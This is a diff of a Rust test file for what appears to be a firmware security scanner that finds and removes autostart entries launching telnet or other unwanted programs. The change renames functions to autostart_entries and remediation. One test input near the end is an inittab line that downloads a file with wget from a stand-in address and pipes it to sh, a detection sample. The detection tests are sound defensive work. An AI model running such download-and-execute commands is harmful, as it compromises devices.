@@ -161,7 +161,7 @@ const CASES: &[Case] = &[
 #[test]
 fn every_line_that_starts_what_nobody_wants_is_found_and_goes() {
     for (kind, text, expected, after) in CASES {
-        let found = starters(*kind, text.as_bytes());
+        let found = autostart_entries(*kind, text.as_bytes());
         let seen: Vec<_> = found.iter().map(|one| (one.line, one.does, one.program.as_str())).collect();
         assert_eq!(&seen, expected, "{text}");
         let mut bytes = text.as_bytes().to_vec();
@@ -170,7 +170,7 @@ fn every_line_that_starts_what_nobody_wants_is_found_and_goes() {
             let changed = without(*kind, &bytes, one.line, &one.says);
             bytes = changed.unwrap_or_else(|| panic!("{one:?} of {text}"));
         }
-        assert_eq!(starters(*kind, &bytes), [], "{}", String::from_utf8_lossy(&bytes));
+        assert_eq!(autostart_entries(*kind, &bytes), [], "{}", String::from_utf8_lossy(&bytes));
         if !after.is_empty() {
             assert_eq!(String::from_utf8_lossy(&bytes), *after);
         }
@@ -180,7 +180,7 @@ fn every_line_that_starts_what_nobody_wants_is_found_and_goes() {
 #[test]
 fn a_line_that_has_changed_is_left_alone() {
     let text = b"::respawn:telnetd\n::respawn:x\n";
-    let found = starters(Inittab, text);
+    let found = autostart_entries(Inittab, text);
     assert_eq!(without(Inittab, text, 1, "::respawn:telnetd -F"), None);
     assert_eq!(without(Inittab, text, 2, &found[0].says), None);
     assert_eq!(without(Inittab, text, 0, &found[0].says), None);
@@ -190,7 +190,7 @@ fn a_line_that_has_changed_is_left_alone() {
 #[test]
 fn quotes_that_would_come_apart_are_left_alone() {
     let text = b"sh -c \"a 'b'te\"lnetd\n";
-    for one in starters(Script, text) {
+    for one in autostart_entries(Script, text) {
         assert_eq!(without(Script, text, one.line, &one.says), None);
     }
 }
@@ -198,19 +198,19 @@ fn quotes_that_would_come_apart_are_left_alone() {
 #[test]
 fn a_file_without_end_is_read_in_bounds() {
     let many = "telnetd\n".repeat(5_000);
-    assert_eq!(starters(Script, many.as_bytes()).len(), STARTERS_MAX);
+    assert_eq!(autostart_entries(Script, many.as_bytes()).len(), STARTERS_MAX);
     let long = ["telnetd ", &"x".repeat(8_000), "日"].concat();
-    let found = starters(Script, long.as_bytes());
+    let found = autostart_entries(Script, long.as_bytes());
     assert_eq!(found[0].says.len(), SAYS_BYTES_MAX);
     assert!(without(Script, long.as_bytes(), 1, &found[0].says).unwrap().starts_with(b"true xx"));
     let assigned = "a=telnetd\n".repeat(6_000);
-    assert!(starters(Script, assigned.as_bytes()).len() <= STARTERS_MAX);
+    assert!(autostart_entries(Script, assigned.as_bytes()).len() <= STARTERS_MAX);
 }
 
 #[test]
 fn a_line_on_the_firmwares_own_medium_cannot_be_changed_and_that_is_said() {
     let found = |text: &str, changeable| {
-        let starter = starters(Inittab, text.as_bytes()).remove(0);
+        let starter = autostart_entries(Inittab, text.as_bytes()).remove(0);
         [FoundAutostart { file: "/etc/inittab".into(), kind: Inittab, starter, changeable }]
     };
     let judged = |found: &[FoundAutostart], policy: &Policy| {
@@ -222,9 +222,9 @@ fn a_line_on_the_firmwares_own_medium_cannot_be_changed_and_that_is_said() {
     let report = judged(&found("::respawn:telnetd", true), &strict);
     assert_eq!(&*report.findings[0].what, "/etc/inittab line 1 starts telnet: ::respawn:telnetd");
     assert!(!report.findings[0].infection);
-    let fix =
+    let remediation =
         Remediation::StopStarting { file: "/etc/inittab".into(), line: 1, says: "::respawn:telnetd".into() };
-    assert_eq!(report.fixes(), [&fix]);
+    assert_eq!(report.remediations(), [&remediation]);
     let report = judged(&found("::respawn:telnetd", false), &strict);
     assert!(matches!(report.outcome(Measure::Respawn), Outcome::CannotEnforce(_)));
     let report = judged(&found("::once:wget http://192.0.2.1/x -O- | sh", true), &strict);
